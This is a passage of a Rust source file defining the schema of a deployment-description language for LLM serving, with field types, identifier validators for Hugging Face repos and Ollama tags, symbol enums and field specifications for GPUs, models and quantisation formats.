//! What fields each declaration kind has, and what each deployment property is.

use crate::syntax::ast::DeclKind;
use crate::units::Dim;

/// The type a field or property holds.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum FieldTy {
    /// A quantity of this dimension (a bare count is accepted for tokens).
    Q(Dim),
    /// A bare number (a count, bits per weight).
    Number,
    /// A ratio: `95%` or `0.95`.
    Ratio,
    Str,
    /// One of a fixed set of words.
    Symbol(&'static [&'static str]),
    /// A catalog entry of a kind, by name.
    Ref(DeclKind),
    /// A list of catalog entries of a kind.
    RefList(DeclKind),
    /// A list of strings (`aliases = ["RTX 4090", "NVIDIA GeForce RTX 4090"]`).
    StrList,
    /// A condition over the deployment's properties (rules' `when`).
    Predicate,
    /// An interpolated message (rules' `message` and `help`).
    Message,
    /// A nested block (`files { }`, `workload { }`).
    Block,
}

impl FieldTy {
    pub fn describe(self) -> String {
        match self {
            FieldTy::Q(dim) => dim.describe(),
            FieldTy::Number => "a number".into(),
            FieldTy::Ratio => "a ratio (`95%` or `0.95`)".into(),
            FieldTy::Str => "a string".into(),
            FieldTy::Symbol(words) => format!("one of {}", quote_list(words)),
            FieldTy::Ref(kind) => format!("{} name", kind.describe()),
            FieldTy::RefList(kind) => format!("a list of {} names", kind.keyword()),
            FieldTy::StrList => "a list of strings".into(),
            FieldTy::Predicate => "a condition".into(),
            FieldTy::Message => "a message string".into(),
            FieldTy::Block => "a block `{ ... }`".into(),
        }
    }
}

pub fn quote_list(words: &[&str]) -> String {
    words
        .iter()
        .map(|w| format!("`{w}`"))
        .collect::<Vec<_>>()
        .join(", ")
}

pub struct FieldSpec {
    pub name: &'static str,
    pub ty: FieldTy,
    pub doc: &'static str,
    /// The values the field accepts beyond its type (`deploy::field::out_of_range`,
    /// `deploy::field::invalid_id`).
    pub valid: Valid,
    /// For a reference field: the catalog entry a declaration gets when it does not set
    /// the field (deployments' `kv_cache`, `engine`, `host`), applied when that entry is
    /// in scope. The schema table, not the evaluator, holds these names.
    pub default: Option<&'static str>,
}

const fn f(name: &'static str, ty: FieldTy, doc: &'static str) -> FieldSpec {
    FieldSpec {
        name,
        ty,
        doc,
        valid: Valid::Any,
        default: None,
    }
}

impl FieldSpec {
    const fn valid(self, valid: Valid) -> FieldSpec {
        FieldSpec { valid, ..self }
    }

    const fn default(self, entry: &'static str) -> FieldSpec {
        FieldSpec {
            default: Some(entry),
            ..self
        }
    }
}

/// The largest count a field accepts (deployments' counts are 32-bit).
pub const MAX_COUNT: i128 = u32::MAX as i128;

/// What values a field accepts, beyond its type.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Valid {
    Any,
    /// Greater than 0 (sizes, bandwidths, parameters, rates).
    Positive,
    /// 0 or more (prices, overheads).
    NonNegative,
    /// Greater than 0 and at most this (bits per weight).
    UpTo(f64),
    /// A whole number from `min` to `max` (layers, heads, sequences, GPUs: up to
    /// [`MAX_COUNT`]; drafted tokens: up to [`MAX_DRAFT_TOKENS`]).
    Whole {
        min: i128,
        max: i128,
    },
    /// 1 or more (a power usage effectiveness).
    AtLeastOne,
    /// A share above 0 and at most 100 %.
    Share,
    /// A share from 0 to 100 %.
    ShareOrZero,
    /// A Hugging Face repository id, `org/name`.
    HfRepo,
    /// An Ollama model tag, `[host/][namespace/]name[:tag]`.
    OllamaTag,
    /// A diagnostic code, `area::name` (rules' `code`: it reaches every output format).
    DiagCode,
    /// An engine's own value for a command-line flag (`fp8`, `q8_0`): 1 to 32 of
    /// `a-z 0-9 _ -`, not starting with `-` (it reaches the commands `export` writes).
    Flag,
    /// A software release: `0.6.3`, `v0.6.3`, `0.6.6.post1`, `1.0rc2`.
    Release,
}

impl Valid {
    /// Whether a number is in range, or the sentence that says which range it must be in.
    pub fn check_number(self, value: f64) -> Result<(), String> {
        let ok = match self {
            Valid::Any
            | Valid::HfRepo
            | Valid::OllamaTag
            | Valid::DiagCode
            | Valid::Flag
            | Valid::Release => true,
            Valid::Positive => value > 0.0,
            Valid::NonNegative => value >= 0.0,
            Valid::UpTo(max) => value > 0.0 && value <= max,
            Valid::Whole { min, max } => value >= min as f64 && value <= max as f64,
            Valid::AtLeastOne => value >= 1.0,
            Valid::Share => value > 0.0 && value <= 1.0,
            Valid::ShareOrZero => (0.0..=1.0).contains(&value),
        };
        if ok { Ok(()) } else { Err(self.describe()) }
    }

    /// The range in words: "greater than 0", "from 1 to 4,294,967,295".
    pub fn describe(self) -> String {
        match self {
            Valid::Any => "any value".into(),
            Valid::Positive => "greater than 0".into(),
            Valid::NonNegative => "0 or more".into(),
            Valid::UpTo(max) => format!("greater than 0 and at most {max}"),
            Valid::Whole { min, max } => format!(
                "a whole number from {min} to {}",
                crate::units::Quantity::number(crate::units::Num::Int(max)).display()
            ),
            Valid::AtLeastOne => "1 or more".into(),
            Valid::Share => "above 0% and at most 100%".into(),
            Valid::ShareOrZero => "from 0% to 100%".into(),
            Valid::HfRepo => "a Hugging Face repository id (`org/name`)".into(),
            Valid::OllamaTag => "an Ollama tag (`name:tag`)".into(),
            Valid::DiagCode => "a diagnostic code (`area::name`)".into(),
            Valid::Flag => "an engine flag value (`fp8`, `q8_0`)".into(),
            Valid::Release => "a release (`0.6.3`, `v0.6.3`)".into(),
        }
    }

    /// Whether a string is a valid identifier of this kind, or why not.
    pub fn check_str(self, text: &str) -> Result<(), String> {
        match self {
            Valid::HfRepo => hf_repo_problem(text).map_or(Ok(()), Err),
            Valid::OllamaTag => ollama_tag_problem(text).map_or(Ok(()), Err),
            Valid::DiagCode => diag_code_problem(text).map_or(Ok(()), Err),
            Valid::Flag => flag_problem(text).map_or(Ok(()), Err),
            Valid::Release => match parse_release(text) {
                Some(_) => Ok(()),
                None => Err(
                    "a release is 1 to 32 characters: an optional `v`, then numbers separated by `.` (`0.6.3`, `v1.0`), a suffix such as `.post1` or `rc2` allowed"
                        .into(),
                ),
            },
            _ => Ok(()),
        }
    }
}

/// A release's numeric components: `v0.6.3` and `0.6.3.post1` are `[0, 6, 3]`, `1.0rc2`
/// `[1, 0]`; `None` unless it is 1 to 32 printable ASCII characters starting with an
/// optional `v` and a digit. Releases compare component by component, a missing one
/// counting as 0 (`0.6` is `0.6.0`).
pub fn parse_release(text: &str) -> Option<Vec<u64>> {
    if text.is_empty() || text.len() > 32 || !text.bytes().all(|b| b.is_ascii_graphic()) {
        return None;
    }
    let body = text.strip_prefix(['v', 'V']).unwrap_or(text);
    if !body.starts_with(|c: char| c.is_ascii_digit()) {
        return None;
    }
    let mut parts = Vec::new();
    for piece in body.split('.') {
        let digits: &str = &piece[..piece
            .find(|c: char| !c.is_ascii_digit())
            .unwrap_or(piece.len())];
        if digits.is_empty() {
            break;
        }
        parts.push(digits.parse::<u64>().ok()?);
        if digits.len() < piece.len() {
            // A suffix (`rc2`, `-dev`) ends the numbers.
            break;
        }
    }
    Some(parts)
}

/// Whether release `a` comes before `b` (component by component, missing ones 0).
pub fn release_before(a: &[u64], b: &[u64]) -> bool {
    let len = a.len().max(b.len());
    let at = |v: &[u64], i: usize| v.get(i).copied().unwrap_or(0);
    (0..len)
        .map(|i| at(a, i).cmp(&at(b, i)))
        .find(|o| o.is_ne())
        .is_some_and(|o| o.is_lt())
}

/// Why `text` is not an engine flag value (1 to 32 of `a-z 0-9 _ -`, not starting with
/// `-`), or `None` when it is one.
pub fn flag_problem(text: &str) -> Option<String> {
    if text.is_empty() || text.chars().count() > 32 {
        return Some("a flag value has 1 to 32 characters".into());
    }
    if text.starts_with('-') {
        return Some("a flag value must not start with `-`".into());
    }
    if let Some(c) = text
        .chars()
        .find(|c| !(c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '_' | '-')))
    {
        return Some(format!(
            "it has {}: only lowercase letters, digits, `_` and `-` are allowed",
            describe_char(c)
        ));
    }
    None
}

/// Why `text` is not a Hugging Face repository id (`org/name`; each part 1–96 of
/// `A-Z a-z 0-9 . _ -`, starting and ending with a letter, digit or `_`, without `--` or
/// `..`, the name not ending in `.git`), or `None` when it is one. The rules are
/// huggingface_hub's `validate_repo_id`, with the namespace required and ASCII only.
pub fn hf_repo_problem(text: &str) -> Option<String> {
    let mut parts = text.split('/');
    let (Some(org), Some(name), None) = (parts.next(), parts.next(), parts.next()) else {
        return Some("a repository id is `org/name`: exactly one `/`".into());
    };
    for (what, part) in [("organization", org), ("name", name)] {
        if part.is_empty() || part.len() > 96 {
            return Some(format!("the {what} must have 1 to 96 characters"));
        }
        if let Some(c) = part
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')))
        {
            return Some(format!(
                "the {what} has {}: only letters, digits, `.`, `_` and `-` are allowed",
                describe_char(c)
            ));
        }
        let edge = |c: Option<char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_');
        if !edge(part.chars().next()) || !edge(part.chars().last()) {
            return Some(format!(
                "the {what} must start and end with a letter, digit or `_`"
            ));
        }
    }
    if text.contains("--") || text.contains("..") {
        return Some("a repository id cannot contain `--` or `..`".into());
    }
    if name.ends_with(".git") {
        return Some("a repository name cannot end in `.git`".into());
    }
    None
}

/// Why `text` is not an Ollama model tag, or `None` when it is one:
/// `[host[:port]/][namespace/]name[:tag]`, where host, namespace and name are lowercase
/// letters, digits, `.`, `_` and `-` (starting with a letter or digit; the host may end
/// with `:port`), and the tag is letters (either case, as in `q4_K_M`), digits, `.`, `_`
/// and `-`, starting with a letter or digit. Parts have at most 80 characters, the host 253.
pub fn ollama_tag_problem(text: &str) -> Option<String> {
    let (path, tag) = match text.rfind(':') {
        Some(colon) if !text[colon..].contains('/') => (&text[..colon], Some(&text[colon + 1..])),
        _ => (text, None),
    };
    let parts: Vec<&str> = path.split('/').collect();
    if parts.len() > 3 {
        return Some("a tag is `[host/][namespace/]name[:tag]`: at most two `/`".into());
    }
    let lower =
        |c: char| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '.' | '_' | '-');
    let any_case = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-');
    let check = |what: &str, part: &str, max: usize, allowed: &dyn Fn(char) -> bool| {
        if part.is_empty() || part.len() > max {
            return Some(format!("the {what} must have 1 to {max} characters"));
        }
        if let Some(c) = part.chars().find(|c| !allowed(*c)) {
            return Some(format!(
                "the {what} has {}: only {} are allowed",
                describe_char(c),
                if what == "tag" {
                    "letters, digits, `.`, `_` and `-`"
                } else {
                    "lowercase letters, digits, `.`, `_` and `-`"
                }
            ));
        }
        if !part.starts_with(|c: char| c.is_ascii_alphanumeric()) {
            return Some(format!("the {what} must start with a letter or digit"));
        }
        None
    };
    let (host, namespace, name) = match parts.as_slice() {
        [name] => (None, None, *name),
        [namespace, name] => (None, Some(*namespace), *name),
        [host, namespace, name] => (Some(*host), Some(*namespace), *name),
        _ => unreachable!("split yields 1 to 3 parts here"),
    };
    if let Some(host) = host {
        let (name, port) = match host.split_once(':') {
            Some((name, port)) => (name, Some(port)),
            None => (host, None),
        };
        if let Some(problem) = check("host", name, 253, &lower) {
            return Some(problem);
        }
        if let Some(port) = port
            && (port.is_empty() || port.len() > 5 || !port.chars().all(|c| c.is_ascii_digit()))
        {
            return Some("the host's port must be 1 to 5 digits".into());
        }
    }
    if let Some(namespace) = namespace
        && let Some(problem) = check("namespace", namespace, 80, &lower)
    {
        return Some(problem);
    }
    if let Some(problem) = check("name", name, 80, &lower) {
        return Some(problem);
    }
    if let Some(tag) = tag
        && let Some(problem) = check("tag", tag, 80, &any_case)
    {
        return Some(problem);
    }
    None
}

/// Why `text` is not a diagnostic code, or `None` when it is one: 2 to 8 parts of ASCII
/// letters, digits and `_` joined by `::`, at most 128 characters in all.
pub fn diag_code_problem(text: &str) -> Option<String> {
    if text.len() > 128 {
        return Some("a code has at most 128 characters".into());
    }
    let parts: Vec<&str> = text.split("::").collect();
    if !(2..=8).contains(&parts.len()) {
        return Some("a code is 2 to 8 parts joined by `::`, like `deploy::rule::name`".into());
    }
    for part in parts {
        if part.is_empty() {
            return Some("a code has no empty part (`::::`)".into());
        }
        if let Some(c) = part
            .chars()
            .find(|c| !(c.is_ascii_alphanumeric() || *c == '_'))
        {
            return Some(format!(
                "the code has {}: only letters, digits and `_` between `::` are allowed",
                describe_char(c)
            ));
        }
    }
    None
}

/// A character as a message names it: `;`, a space, a newline, U+00E9.
fn describe_char(c: char) -> String {
    match c {
        ' ' => "a space".into(),
        '\n' => "a newline".into(),
        '\t' => "a tab".into(),
        c if c.is_ascii_graphic() => format!("`{c}`"),
        c => format!("U+{:04X}", c as u32),
    }
}

/// A symbol field's values as a Rust enum and the schema's table of spellings, from one
/// list: the table (`VENDORS` …) is what the schema checks a value against, the enum is
/// what the model compares, so a misspelt value is a compile error, never a silent miss.
/// Read a field as one with `Entry::symbol_as::<Vendor>("vendor")`.
macro_rules! symbols {
    ($($(#[$meta:meta])* $name:ident, $table:ident { $($variant:ident = $text:literal),+ $(,)? })+) => {$(
        $(#[$meta])*
        #[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
        pub enum $name {
            $($variant),+
        }

        impl $name {
            /// Every spelling, in the schema's order.
            pub const NAMES: &'static [&'static str] = &[$($text),+];

            /// The value a spelling names.
            pub fn parse(text: &str) -> Option<Self> {
                match text {
                    $($text => Some(Self::$variant),)+
                    _ => None,
                }
            }

            /// The spelling in `.deploy` files.
            pub fn name(self) -> &'static str {
                match self {
                    $(Self::$variant => $text),+
                }
            }
        }

        impl Symbol for $name {
            fn parse(text: &str) -> Option<Self> {
                $name::parse(text)
            }
        }

        /// As its spelling in `.deploy` files (`"auto"`), in every JSON output.
        impl serde::Serialize for $name {
            fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
                serializer.serialize_str(self.name())
            }
        }

        $(#[$meta])*
        pub const $table: &[&str] = $name::NAMES;
    )+};
}

/// A symbol field's enum (made by `symbols!`).
pub trait Symbol: Sized + Copy {
    fn parse(text: &str) -> Option<Self>;
}

symbols! {
    /// Who makes a GPU (gpus' `vendor`).
    Vendor, VENDORS { Nvidia = "nvidia", Amd = "amd", Apple = "apple", Intel = "intel" }
    /// How a GPU talks to its peers (gpus' `interconnect`).
    Interconnect, INTERCONNECTS { Nvlink = "nvlink", Xgmi = "xgmi", Pcie = "pcie", Unified = "unified" }
    /// A model's attention (models' `attention`).
    Attention, ATTENTION { Mha = "mha", Gqa = "gqa", Mla = "mla", Hybrid = "hybrid" }
    /// A weight format's family (quants' `kind`).
    QuantKind, QUANT_KINDS { Gguf = "gguf", Awq = "awq", Gptq = "gptq", Fp = "fp", Mlx = "mlx" }
    /// A rule's level.
    Level, LEVELS { Error = "error", Warn = "warn", Info = "info" }
    /// Whether an engine keeps a sliding-window layer's KV cache windowed or whole (engines' `window_kv`).
    WindowKv, WINDOW_KV { Windowed = "windowed", Full = "full" }
    /// A GPU's memory technology (gpus' `memory_kind`).
    MemoryKind, MEMORY_KINDS { Hbm = "hbm", Gddr = "gddr", Ddr = "ddr", Unified = "unified" }
    /// Where a GPU is sold and used: `gpus --segment`, and the "smallest buyable GPU" of
    /// `matrix` and the `does_not_fit` help (mining and embedded parts only when asked).
    Segment, SEGMENTS {
        Datacenter = "datacenter",
        Workstation = "workstation",
        Consumer = "consumer",
        Laptop = "laptop",
        Apple = "apple",
        Mining = "mining",
        Embedded = "embedded",
    }
    /// Tensor-core element types a format's matrix multiplies need (quants' `tensor`).
    TensorType, TENSOR_TYPES { Fp16 = "fp16", Bf16 = "bf16", Fp8 = "fp8", Fp4 = "fp4", Int8 = "int8" }
    /// What an engine does with weights whose tensor type the GPU lacks (engines' `fallback`).
    Fallback, FALLBACKS { WeightOnly = "weight_only", Dequantize = "dequantize", Upcast = "upcast", None = "none" }
    /// A yes-or-no field.
    YesNo, YES_NO { Yes = "yes", No = "no" }
    /// Whether an engine can keep part of a model in system RAM (engines' `offload`).
    OffloadKind, OFFLOAD_KINDS { Layers = "layers", None = "none" }
    /// What a deployment asks of offload: as many layers as fit on the GPUs (`auto`), or
    /// none (deployments' `offload`).
    OffloadMode, OFFLOAD_MODES { Auto = "auto", None = "none" }
    /// How an engine decides which layers go on the GPUs (engines' `placement`): Ollama's
    /// pre-load memory estimate, which offloads the rest on its own.
    Placement, PLACEMENTS { Ollama = "ollama" }
    /// What a `gpu` entry computes on: a GPU, or the host's CPU (`gpu = cpu`).
    Device, DEVICES { Gpu = "gpu", Cpu = "cpu" }
    /// A GPU's product family (gpus' `family`).
    GpuFamily, GPU_FAMILIES {
        Geforce = "geforce",
        Workstation = "workstation",
        Datacenter = "datacenter",
        Apple = "apple",
        Radeon = "radeon",
        Other = "other",
    }
    /// The engine an entry is, or runs like (engines' `dialect`): which quants it runs and
    /// how `export` writes it.
    Dialect, DIALECTS {
        Vllm = "vllm",
        Sglang = "sglang",
        TensorrtLlm = "tensorrt_llm",
        Llamacpp = "llamacpp",
        Ollama = "ollama",
        Tgi = "tgi",
        Lmdeploy = "lmdeploy",
        Mlx = "mlx",
        Generic = "generic",
    }
    /// The clouds whose offers the stdlib lists (stdlib/offers.deploy).
    Provider, PROVIDERS { Aws = "aws", Azure = "azure", Gcp = "gcp", Lambda = "lambda", Runpod = "runpod" }
    /// How a deployment pays for its GPUs (docs/cost.md).
    Pricing, PRICINGS { Cloud = "cloud", Owned = "owned" }
    /// `fleet = single` (default: one GPU type, `replicas` copies) or `mixed` (the solver
    /// picks replicas per GPU type for the workload's request classes; docs/cost.md).
    Fleet, FLEETS { Single = "single", Mixed = "mixed" }
    /// `spot = true` or `false`.
    Boolean, BOOLEANS { True = "true", False = "false" }
    /// Which speed model an engine's kernels follow (engines' `kernels`).
    Kernels, KERNELS { Serving = "serving", Llamacpp = "llamacpp", Auto = "auto" }
    /// Whether a workload's requests all have its lengths or vary around them.
    Lengths, LENGTHS { Fixed = "fixed", Varied = "varied" }
    /// How a serving engine mixes prompt chunks with decodes (engines' `scheduling`).
    Scheduling, SCHEDULINGS { Mixed = "mixed", PrefillFirst = "prefill_first" }
    /// How a speculative-decoding drafter proposes tokens (`speculative { method }`):
    /// an EAGLE-3 head, the model's own multi-token-prediction layer, prompt n-gram lookup,
    /// or a separate draft model (`draft = <model>`).
    SpecMethod, SPEC_METHODS { Eagle3 = "eagle3", Mtp = "mtp", Ngram = "ngram", Draft = "draft" }
    /// How an engine splits a model over GPUs (engines' `split`).
    Split, SPLITS { Tensor = "tensor", Layers = "layers" }
}

/// Tensor rates are dense multiply-add throughput per clock per SM (NVIDIA), CU (AMD) or
/// Xe-core (Intel), counting 2 FLOPs per multiply-add; absent means no tensor path.
const fn rate(name: &'static str, doc: &'static str) -> FieldSpec {
    f(name, FieldTy::Number, doc).valid(Valid::Positive)
}

/// The `aliases` field's documentation (every kind a user names: GPU, model, quant, KV
/// dtype, engine, host).
const ALIASES_DOC: &str = "other names a user writes for this entry (a marketing name, what `nvidia-smi` or `system_profiler` prints, a Hugging Face id, an Ollama tag); the name resolver matches them in any case and spacing";

const ARCH: &[FieldSpec] = &[
    f("name", FieldTy::Str, "display name"),
    f("vendor", FieldTy::Symbol(VENDORS), "maker"),
    f(
        "compute_capability",
        FieldTy::Number,
        "CUDA compute capability (`sm_89` is 8.9)",
    )
    .valid(Valid::Positive),
    rate(
        "fp16_rate",
        "dense FP16 tensor FLOPs per clock per SM/CU/Xe-core (FP16 accumulate)",
    ),
    rate(
        "bf16_rate",
        "dense BF16 tensor FLOPs per clock per SM/CU/Xe-core",
    ),
    rate(
        "fp8_rate",
        "dense FP8 tensor FLOPs per clock per SM/CU/Xe-core",
    ),
    rate(
        "fp4_rate",
        "dense FP4 tensor FLOPs per clock per SM/CU/Xe-core",
    ),
    rate(
        "int8_rate",
        "dense INT8 tensor ops per clock per SM/CU/Xe-core",
    ),
    f(
        "weight_only",
        FieldTy::Symbol(YES_NO),
        "`yes`: mixed-precision kernels (Marlin, sm_80+) run low-bit weights the tensor cores lack, dequantized to 16 bit",
    ),
    f(
        "serving_efficiency",
        FieldTy::Ratio,
        "share of the serving engines' fitted bandwidth efficiency (fitted on NVIDIA data-centre GPUs) this architecture's kernels reach (default 100%)",
    )
    .valid(Valid::Share),
    f(
        "matmul_share",
        FieldTy::Ratio,
        "share of the tensor peaks the best matrix multiplies reach on this architecture's GPUs, for a GPU that records no `bf16_mamf` (default 80.3%)",
    )
    .valid(Valid::Share),
    f(
        "decode_splits",
        FieldTy::Number,
        "serving engines' decode attention on this architecture: context splits per sequence and KV head (one thread block each); with fewer blocks than the GPU's `sms`, the KV cache is read at that share of the bandwidth (absent: enough blocks to fill the GPU)",
    )
    .valid(Valid::Positive),
];

const GPU: &[FieldSpec] = &[
    f("name", FieldTy::Str, "display name"),
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f("vendor", FieldTy::Symbol(VENDORS), "maker"),
    f(
        "device",
        FieldTy::Symbol(DEVICES),
        "`cpu`: no GPU; the model runs from the deployment's host memory and bandwidth (absent: `gpu`)",
    ),
    f(
        "arch",
        FieldTy::Ref(DeclKind::Arch),
        "architecture: tensor types it runs natively",
    ),
    f(
        "segment",
        FieldTy::Symbol(SEGMENTS),
        "where it is sold and used",
    ),
    f("released", FieldTy::Str, "release date (YYYY-MM-DD)"),
    f("bus", FieldTy::Str, "host bus (`PCIe 4.0 x16`)"),
    f(
        "sms",
        FieldTy::Number,
        "streaming multiprocessors (NVIDIA), compute units (AMD), Xe-cores (Intel) or GPU cores (Apple silicon)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("boost_clock_mhz", FieldTy::Number, "boost clock in MHz").valid(Valid::Positive),
    f("memory", FieldTy::Q(Dim::BYTES), "memory per GPU").valid(Valid::Positive),
    f("bandwidth", FieldTy::Q(Dim::BANDWIDTH), "memory bandwidth").valid(Valid::Positive),
    f(
        "bf16",
        FieldTy::Q(Dim::COMPUTE),
        "dense BF16 tensor throughput",
    )
    .valid(Valid::Positive),
    f(
        "fp8",
        FieldTy::Q(Dim::COMPUTE),
        "dense FP8 tensor throughput",
    )
    .valid(Valid::Positive),
    f(
        "int8",
        FieldTy::Q(Dim::COMPUTE),
        "dense INT8 tensor throughput",
    )
    .valid(Valid::Positive),
    f(
        "bf16_mamf",
        FieldTy::Q(Dim::COMPUTE),
        "measured Maximum Achievable Matmul FLOPS in BF16: the best dense matmul's rate, which serving engines' efficiencies scale",
    )
    .valid(Valid::Positive),
    f(
        "fp8_mamf",
        FieldTy::Q(Dim::COMPUTE),
        "measured Maximum Achievable Matmul FLOPS in FP8 (e4m3)",
    )
    .valid(Valid::Positive),
    f("tdp", FieldTy::Q(Dim::WATTS), "board power").valid(Valid::Positive),
    f(
        "price",
        FieldTy::Q(Dim::HOURLY),
        "hourly on-demand price per GPU",
    )
    .valid(Valid::NonNegative),
    f("msrp", FieldTy::Q(Dim::DOLLARS), "launch price").valid(Valid::NonNegative),
    f(
        "interconnect",
        FieldTy::Symbol(INTERCONNECTS),
        "link between GPUs",
    ),
    f(
        "link_bandwidth",
        FieldTy::Q(Dim::BANDWIDTH),
        "GPU-to-GPU bandwidth in each direction (half NVLink's bidirectional total; on `xgmi`, of one peer link)",
    )
    .valid(Valid::Positive),
    f(
        "gpus_per_node",
        FieldTy::Number,
        "GPUs in one server sharing the `interconnect` (an HGX/DGX board: 8); a tensor-parallel group larger than this crosses `node_link`",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "node_link",
        FieldTy::Q(Dim::BANDWIDTH),
        "network bandwidth per GPU between nodes, per direction (400 Gb/s InfiniBand NDR or RoCE)",
    )
    .valid(Valid::Positive),
    f(
        "memory_kind",
        FieldTy::Symbol(MEMORY_KINDS),
        "memory technology: `hbm` parts are not saturated by one decode stream",
    ),
    f(
        "system_reserved",
        FieldTy::Q(Dim::BYTES),
        "unified memory the operating system, page cache and other processes keep (a CUDA unified-memory machine such as GB10): engines' shares are of `visible_memory` and must fit in the rest",
    )
    .valid(Valid::NonNegative),
    f(
        "visible_memory",
        FieldTy::Q(Dim::BYTES),
        "the memory the driver reports as the GPU's total, when below `memory` (GB10: 121.69 GiB of 128)",
    )
    .valid(Valid::Positive),
    f(
        "family",
        FieldTy::Symbol(GPU_FAMILIES),
        "product line, which picks the speed fit (`geforce`: FP32-accumulate tensor figures)",
    ),
];

const MODEL: &[FieldSpec] = &[
    f(
        "name",
        FieldTy::Str,
        "display name, which messages print for `{model}` (a generated model's: the id or path written)",
    ),
    f("hf", FieldTy::Str, "Hugging Face checkpoint id").valid(Valid::HfRepo),
    f("ollama", FieldTy::Str, "Ollama tag").valid(Valid::OllamaTag),
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f("params", FieldTy::Number, "total parameters").valid(Valid::Positive),
    f(
        "active_params",
        FieldTy::Number,
        "parameters used per token (MoE)",
    )
    .valid(Valid::Positive),
    f("layers", FieldTy::Number, "transformer layers").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("hidden", FieldTy::Number, "hidden size").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("intermediate", FieldTy::Number, "MLP intermediate size").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("heads", FieldTy::Number, "attention heads").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("kv_heads", FieldTy::Number, "key/value heads").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("head_dim", FieldTy::Number, "dimension per head").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("vocab", FieldTy::Number, "vocabulary size").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "max_context",
        FieldTy::Q(Dim::TOKENS),
        "trained context window",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "architecture",
        FieldTy::Str,
        "the architecture as config.json's `model_type` or GGUF's `general.architecture` names it (`qwen2`, `llama`, `gemma3`): which of Ollama's graph formulas and engines it gets",
    ),
    f("attention", FieldTy::Symbol(ATTENTION), "attention kind"),
    f(
        "window",
        FieldTy::Q(Dim::TOKENS),
        "sliding window of local layers",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "local_layers",
        FieldTy::Number,
        "layers with sliding-window attention",
    )
    .valid(Valid::Whole { min: 0, max: MAX_COUNT }),
    f(
        "linear_layers",
        FieldTy::Number,
        "layers with linear attention (Gated DeltaNet, Mamba): a fixed state per sequence instead of a KV cache per token",
    )
    .valid(Valid::Whole { min: 0, max: MAX_COUNT }),
    f(
        "linear_state",
        FieldTy::Q(Dim::BYTES),
        "bytes of one linear-attention layer's state per sequence (recurrent and convolution state)",
    )
    .valid(Valid::Positive),
    f("kv_lora_rank", FieldTy::Number, "MLA compressed KV rank").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "qk_rope_dim",
        FieldTy::Number,
        "MLA decoupled RoPE dimension",
    )
    .valid(Valid::Whole { min: 0, max: MAX_COUNT }),
    f(
        "tied_embeddings",
        FieldTy::Symbol(YES_NO),
        "`yes`: the input embeddings are the output layer (one vocab × hidden matrix in the file)",
    ),
    f(
        "vision_params",
        FieldTy::Number,
        "parameters of a vision model's image encoder and projector (Ollama loads them at 16 bits beside the text model)",
    )
    .valid(Valid::Positive),
    f(
        "vision_graph",
        FieldTy::Q(Dim::BYTES),
        "the image encoder's compute graph as Ollama estimates it (VisionGraphSize)",
    )
    .valid(Valid::NonNegative),
    f("experts", FieldTy::Number, "MoE experts").valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "experts_active",
        FieldTy::Number,
        "MoE experts used per token",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f("files", FieldTy::Block, "exact artifact sizes per quant"),
    f(
        "default_quant",
        FieldTy::Ref(DeclKind::Quant),
        "weight format of the model's files or tag, used when a deployment names no quant",
    ),
    f(
        "source",
        FieldTy::Str,
        "where the architecture comes from (registry row, file)",
    ),
    f(
        "incomplete",
        FieldTy::Str,
        "what the source does not determine, and how to supply it",
    ),
    f("license", FieldTy::Str, "licence identifier"),
    f("released", FieldTy::Str, "release date (YYYY-MM-DD)"),
];

const QUANT: &[FieldSpec] = &[
    f("aliases", FieldTy::StrList, ALIASES_DOC),
    f(
        "bits",
        FieldTy::Number,
        "nominal bits of the packed weights",
    )
    .valid(Valid::UpTo(64.0)),
    f("bpw", FieldTy::Number, "effective bits per weight").valid(Valid::UpTo(64.0)),
    f("kind", FieldTy::Symbol(QUANT_KINDS), "format family"),
    f(
        "tensor",
        FieldTy::Symbol(TENSOR_TYPES),
        "tensor-core type its matrix multiplies need to run natively (absent: any GPU)",
    ),
    f(
        "tensor_efficiency",
        FieldTy::Ratio,
        "share of its tensor type's peak its matrix multiplies reach against a per-tensor-scaled format of that type (block-scaled FP8 rescales every 128-wide block; default 100%)",
    )
    .valid(Valid::Share),
    f(
        "weight_only_efficiency",
        FieldTy::Ratio,
        "share of the 16-bit rate its matrix multiplies reach in a serving engine where weight-only kernels run them (the packed weights widened to 16 bit inside the multiply, as Marlin does; not where the GPU runs its tensor type natively, nor where the engine converts the weights at load; default 100%)",
    )
    .valid(Valid::Share),
    f(
        "engines",
        FieldTy::RefList(DeclKind::Engine),
        "engines that run it (entry names or engine dialects)",
    ),
    f(
        "vllm_quantization",
        FieldTy::Str,
        "vLLM's `--quantization` value for this format",
    )
    .valid(Valid::Flag),
    f(
        "vllm_expert_align_hidden",
        FieldTy::Number,
        "vLLM stores this format's expert matrices with the hidden size padded to a multiple of this (its MoE kernel's layout)",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
    f(
        "vllm_expert_align_width",
        FieldTy::Number,
        "vLLM stores this format's expert matrices with each GPU's share of an expert's FFN width padded to a multiple of this",
    )
    .valid(Valid::Whole { min: 1, max: MAX_COUNT }),
